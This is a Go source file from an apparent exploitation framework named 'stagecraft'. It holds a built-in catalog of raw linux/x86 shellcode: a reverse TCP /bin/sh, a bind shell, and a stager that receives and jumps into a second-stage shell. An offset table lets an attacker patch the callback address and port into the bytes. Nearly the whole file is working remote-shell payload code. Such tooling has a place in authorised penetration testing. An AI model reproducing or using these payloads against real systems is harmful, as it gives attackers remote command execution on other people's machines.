// Package payloads ships the built-in payload catalog: classic
// linux/x86 singles plus a stager/stage pair, each with the offset
// table that lets LHOST/LPORT be patched into the raw bytes.
package payloads

import (
	"stagecraft/handler"
	"stagecraft/payload"
	"stagecraft/shared"
)

// Entry couples a payload definition with its handler classification.
type Entry struct {
	Def     payload.Definition
	Handler handler.Handler
}

// shellReverseTCP is the classic linux/x86 connect-back /bin/sh.
// LHOST sits at offset 20, LPORT (network order) at offset 26.
var shellReverseTCP = []byte{
	0x6a, 0x66, 0x58, 0x6a, 0x01, 0x5b, 0x31, 0xd2,
	0x52, 0x53, 0x6a, 0x02, 0x89, 0xe1, 0xcd, 0x80,
	0x92, 0xb0, 0x66, 0x68, 0x7f, 0x00, 0x00, 0x01,
	0x66, 0x68, 0x11, 0x5c, 0x43, 0x66, 0x53, 0x89,
	0xe1, 0x6a, 0x10, 0x51, 0x52, 0x89, 0xe2, 0x43,
	0xcd, 0x80, 0x6a, 0x02, 0x5b, 0xb0, 0x3f, 0xcd,
	0x80, 0x49, 0x79, 0xf9, 0xb0, 0x0b, 0x68, 0x2f,
	0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e,
	0x89, 0xe3, 0x41, 0x89, 0xca, 0xcd, 0x80,
}

// shellBindTCP is the classic linux/x86 listening /bin/sh. LPORT at
// offset 24.
var shellBindTCP = []byte{
	0x6a, 0x66, 0x58, 0x6a, 0x01, 0x5b, 0x31, 0xf6,
	0x56, 0x53, 0x6a, 0x02, 0x89, 0xe1, 0xcd, 0x80,
	0x5f, 0x97, 0x93, 0xb0, 0x66, 0x56, 0x66, 0x68,
	0x11, 0x5c, 0x66, 0x53, 0x89, 0xe1, 0x6a, 0x10,
	0x51, 0x57, 0x89, 0xe1, 0xcd, 0x80, 0xb0, 0x66,
	0xb3, 0x04, 0x56, 0x57, 0x89, 0xe1, 0xcd, 0x80,
	0xb0, 0x66, 0x43, 0x56, 0x56, 0x57, 0x89, 0xe1,
	0xcd, 0x80, 0x59, 0x59, 0xb1, 0x02, 0x93, 0xb0,
	0x3f, 0xcd, 0x80, 0x49, 0x79, 0xf9, 0xb0, 0x0b,
	0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62,
	0x69, 0x6e, 0x89, 0xe3, 0x41, 0x89, 0xca, 0xcd,
	0x80,
}

// reverseTCPStager connects back, mmaps a page, reads the stage into
// it and jumps in with the socket in edi. LHOST at offset 21, LPORT
// at offset 28.
var reverseTCPStager = []byte{
	0x6a, 0x0a, 0x5e, 0x31, 0xdb, 0xf7, 0xe3, 0x53,
	0x43, 0x53, 0x6a, 0x02, 0xb0, 0x66, 0x89, 0xe1,
	0xcd, 0x80, 0x97, 0x5b, 0x68, 0x7f, 0x00, 0x00,
	0x01, 0x68, 0x02, 0x00, 0x11, 0x5c, 0x89, 0xe1,
	0x6a, 0x66, 0x58, 0x50, 0x51, 0x57, 0x89, 0xe1,
	0x43, 0xcd, 0x80, 0x85, 0xc0, 0x79, 0x19, 0x4e,
	0x74, 0x3d, 0x68, 0xa2, 0x00, 0x00, 0x00, 0x58,
	0x6a, 0x00, 0x6a, 0x05, 0x89, 0xe3, 0x31, 0xc9,
	0xcd, 0x80, 0x85, 0xc0, 0x79, 0xbd, 0xeb, 0x27,
	0xb2, 0x07, 0xb9, 0x00, 0x10, 0x00, 0x00, 0x89,
	0xe3, 0xc1, 0xeb, 0x0c, 0xc1, 0xe3, 0x0c, 0xb0,
	0x7d, 0xcd, 0x80, 0x85, 0xc0, 0x78, 0x10, 0x5b,
	0x89, 0xe1, 0x99, 0xb6, 0x0c, 0xb0, 0x03, 0xcd,
	0x80, 0x85, 0xc0, 0x78, 0x02, 0xff, 0xe1, 0xb8,
	0x01, 0x00, 0x00, 0x00, 0xbb, 0x01, 0x00, 0x00,
	0x00, 0xcd, 0x80,
}

// shellStage is the second stage run by the stager above: dup2 the
// socket left in edi onto stdio, then execve /bin/sh.
var shellStage = []byte{
	0x89, 0xfb, 0x6a, 0x02, 0x59, 0xb0, 0x3f, 0xcd,
	0x80, 0x49, 0x79, 0xf9, 0x6a, 0x0b, 0x58, 0x99,
	0x52, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f,
	0x62, 0x69, 0x6e, 0x89, 0xe3, 0x52, 0x53, 0x89,
	0xe1, 0xcd, 0x80,
}

// Catalog returns the built-in payload entries.
func Catalog() []Entry {
	return []Entry{
		{
			Def: payload.Definition{
				Name:     "linux/x86/shell_reverse_tcp",
				Kind:     payload.KindSingle,
				Arch:     shared.ArchX86,
				Platform: "linux",
				Raw:      shellReverseTCP,
				Offsets: payload.OffsetTable{
					{Name: "LHOST", Offset: 20, Pack: payload.PackAddr},
					{Name: "LPORT", Offset: 26, Pack: payload.PackBE16},
				},
				BadChars: []byte{0x00},
			},
			Handler: handler.ReverseTCP{},
		},
		{
			Def: payload.Definition{
				Name:     "linux/x86/shell_bind_tcp",
				Kind:     payload.KindSingle,
				Arch:     shared.ArchX86,
				Platform: "linux",
				Raw:      shellBindTCP,
				Offsets: payload.OffsetTable{
					{Name: "LPORT", Offset: 24, Pack: payload.PackBE16},
				},
				BadChars: []byte{0x00},
			},
			Handler: handler.BindTCP{},
		},
		{
			Def: payload.Definition{
				Name:       "linux/x86/reverse_tcp",
				Kind:       payload.KindStager,
				Arch:       shared.ArchX86,
				Platform:   "linux",
				Raw:        reverseTCPStager,
				Convention: "sockedi",
				Offsets: payload.OffsetTable{
					{Name: "LHOST", Offset: 21, Pack: payload.PackAddr},
					{Name: "LPORT", Offset: 28, Pack: payload.PackBE16},
				},
				SaveRegisters: []string{"edi"},
			},
			Handler: handler.ReverseTCP{},
		},
		{
			Def: payload.Definition{
				Name:       "linux/x86/shell",
				Kind:       payload.KindStage,
				Arch:       shared.ArchX86,
				Platform:   "linux",
				Raw:        shellStage,
				Convention: "sockedi",
			},
			Handler: handler.ReverseTCP{},
		},
	}
}

// Find returns the catalog entry with the given name.
func Find(name string) (Entry, bool) {
	for _, e := range Catalog() {
		if e.Def.Name == name {
			return e, true
		}
	}
	return Entry{}, false
}
